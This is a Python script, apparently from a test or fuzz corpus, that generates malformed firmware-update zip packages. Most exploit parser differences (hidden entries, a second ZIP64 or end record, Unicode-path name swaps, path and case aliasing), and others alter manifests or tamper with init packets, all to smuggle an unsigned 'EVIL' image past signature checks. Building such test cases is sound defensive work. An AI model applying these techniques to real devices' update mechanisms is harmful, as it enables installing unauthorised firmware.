"""Writes packages that other programs read differently than a reader that looks only at the directory of a zip archive.

Each attack starts from a package of ../ without its private key. The attacker's image is `EVIL`, with a CRC-16 and no signature.
Usage, in this folder: python3 make.py
"""
import json
import struct
import zipfile
import zlib


def read(name):
    with zipfile.ZipFile(f'../{name}.zip') as archive:
        return {entry: archive.read(entry) for entry in archive.namelist()}


def local(name, data, extra=b''):
    encoded = name.encode()
    return struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
                       len(encoded), len(extra)) + encoded + extra + data


def central(name, data, offset, comment=b'', extra=b''):
    encoded = name.encode()
    return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
                       len(encoded), len(extra), len(comment), 0, 0, 0, offset) + encoded + extra + comment


def end(count, size, offset, comment=0):
    return struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, count, count, size, offset, comment)


def end64(count, size, offset, place):
    """The end record of the 64-bit format, which is at `place`, and its locator."""
    return struct.pack('<IQHHIIQQQQ', 0x06064b50, 44, 45, 45, 0, 0, count, count, size, offset) \
        + struct.pack('<IIQI', 0x07064b50, 0, place, 1)


def entries(files, start=0):
    """The entries, and a function that makes their directory with a comment or an extra field in the last record."""
    data, places = b'', []
    for name, content in files.items():
        places.append((name, content, start + len(data)))
        data += local(name, content)

    def directory(comment=b'', extra=b''):
        records = [central(*place) for place in places[:-1]]
        return b''.join(records) + central(*places[-1], comment=comment, extra=extra)

    return data, directory


def write(name, *parts):
    with open(f'{name}.zip', 'wb') as file:
        file.write(b''.join(parts))


def pack(name, files):
    data, directory = entries(files)
    write(name, data, directory(), end(len(files), len(directory()), len(data)))


def crc16(data):
    crc = 0xffff
    for byte in data:
        crc ^= byte << 8
        for _ in range(8):
            crc = ((crc << 1) ^ 0x1021 if crc & 0x8000 else crc << 1) & 0xffff
    return crc


def edited(files, change):
    """The files of a package with a changed manifest."""
    manifest = json.loads(files['manifest.json'])
    change(manifest)
    return {**files, 'manifest.json': json.dumps(manifest).encode()}


good = read('legacy-signed')
both = read('legacy-both')
secure = read('secure-all')
image = b'EVIL' * 129
evil = {
    'manifest.json': json.dumps({'manifest': {
        'dfu_version': 0.5, 'application': {'bin_file': 'app.bin', 'dat_file': 'app.dat'}}}).encode(),
    'app.dat': struct.pack('<HHIHHH', 0x52, 52840, 9, 1, 0xB6, crc16(image)),
    'app.bin': image,
}
data, directory = entries(good)
second, second_directory = entries(evil, len(data))

# Entries between the others and the directory, which no directory lists: java.util.zip.ZipInputStream reads them.
write('hidden', data, second, directory(), end(3, len(directory()), len(data + second)))


def with_zip64(name, field):
    """A second directory in the 64-bit format, in a comment or in an extra field: Python's zipfile reads it."""
    place = len(data + second)
    evil_directory = second_directory()
    header = b'' if field == 'comment' else struct.pack('<HH', 0x9999, len(evil_directory) + 76)
    length = len(directory(**{field: header + evil_directory + bytes(76)}))
    start = place + length - 76 - len(evil_directory)
    records = header + evil_directory + end64(3, len(evil_directory), start, place + length - 76)
    listed = directory(**{field: records})
    write(name, data, second, listed, end(3, len(listed), place))


with_zip64('zip64-in-comment', 'comment')
with_zip64('zip64-in-extra', 'extra')

# A second end record with its directory, in the comment of the first one: Python's zipfile uses the last one.
start = len(data + second) + len(directory()) + 22
comment = second_directory() + end(3, len(second_directory()), start, 1) + b'\0\0'
write('end-in-comment', data, second, directory(), end(3, len(directory()), len(data + second), len(comment)), comment)


def unicode_path(name, new):
    return struct.pack('<HHBI', 0x7075, 5 + len(new), 1, zlib.crc32(name.encode())) + new.encode()


# Unicode path fields that exchange two names: unzip uses them.
data, listed = b'', b''
for name, content in [*good.items(), ('x.bin', image)]:
    extra = {'app.bin': unicode_path('app.bin', 'y.bin'), 'x.bin': unicode_path('x.bin', 'app.bin')}.get(name, b'')
    listed += central(name, content, len(data), extra=extra)
    data += local(name, content, extra)
write('second-name', data, listed, end(4, len(listed), len(data)))

# Names that are the same file after they are unpacked.
pack('dots', {**good, **{'./' + name: content for name, content in evil.items()}})
pack('case', {**good, 'App.bin': image})
pack('drive', {**good, 'C:app.bin': image})
pack('dot-at-end', {**good, 'app.bin.': image})
pack('extra-file', {**good, 'readme.txt': b'x'})


def two_names(manifest):
    manifest['manifest']['bootloader'] = {'bin_file': 'App.bin', 'dat_file': 'boot.dat'}


pack('listed-case', edited({**good, 'App.bin': image, 'boot.dat': evil['app.dat']}, two_names))

# The manifest is for two protocols, or only some decoders accept it.
pack('both-kinds', edited({**good, 'evil.bin': image}, lambda manifest: manifest.update({
    'format-version': 1, 'files': [{'type': 'application', 'file': 'evil.bin', 'image_index': '0', 'size': 516}]})))
# An MCUboot image by the same test key; the first two bytes of a file of this corpus are settings.
with open('../../../../Fuzz/Corpus/images/mcuboot-ecdsa-p256-full', 'rb') as file:
    mcuboot = file.read()[2:]
pack('twice', {
    'manifest.json': ('{"format-version":0,"x":1,"x":2,"files":[{"file":"m.bin","size":%d,"image_index":"0"}],"manifest":'
                      '{"dfu_version":0.5,"application":{"bin_file":"app.bin","dat_file":"app.dat"}}}' % len(mcuboot)).encode(),
    'm.bin': mcuboot, 'app.bin': image, 'app.dat': evil['app.dat']})


def sizes_of_legacy(manifest):
    section = manifest['manifest']['softdevice_bootloader']
    section.update({'sd_size': 4, 'bl_size': 644, 'info_read_only_metadata': {'sd_size': 388, 'bl_size': 260}})


def sizes_of_secure(manifest):
    manifest['manifest']['softdevice_bootloader'].update({'sd_size': 4})


def other_numbers(manifest):
    manifest['manifest']['softdevice_bootloader']['info_read_only_metadata'] = {'sd_size': 4.0, 'bl_size': 644.0}


pack('sizes-legacy', edited(both, sizes_of_legacy))
pack('sizes-secure', edited(secure, sizes_of_secure))
pack('sizes-numbers', edited(secure, other_numbers))

# No reader can refuse these two: no signature covers the part of a legacy image, and the list of the images.
pack('relabelled', edited(good, lambda manifest: manifest['manifest'].update(
    {'bootloader': manifest['manifest'].pop('application')})))
rest = {name: content for name, content in secure.items() if not name.startswith('sd_bl')}
pack('dropped', edited(rest, lambda manifest: manifest['manifest'].pop('softdevice_bootloader')))

# The second image is damaged, or its init packet is that of an unsigned package.
pack('second-image', {**secure, 'app.bin': b'X' + secure['app.bin'][1:]})
pack('second-unsigned', {**secure, 'app.dat': read('secure-unsigned')['app.dat']})


def changed(name, old, new):
    """A package with one field of its init packet changed. The signature, if there is one, does not cover the new bytes."""
    files = read(name)
    assert files['app.dat'].count(old) == 1
    return {**files, 'app.dat': files['app.dat'].replace(old, new)}


# A signature of another type, a packet for tests, and an application for another chip.
pack('ed25519', changed('secure', b'\x10\0\x1a\x40', b'\x10\1\x1a\x40'))
pack('debug', changed('secure-unsigned', b'\x48\0', b'\x48\1'))
pack('external', changed('secure-unsigned', b'\x20\0', b'\x20\4'))
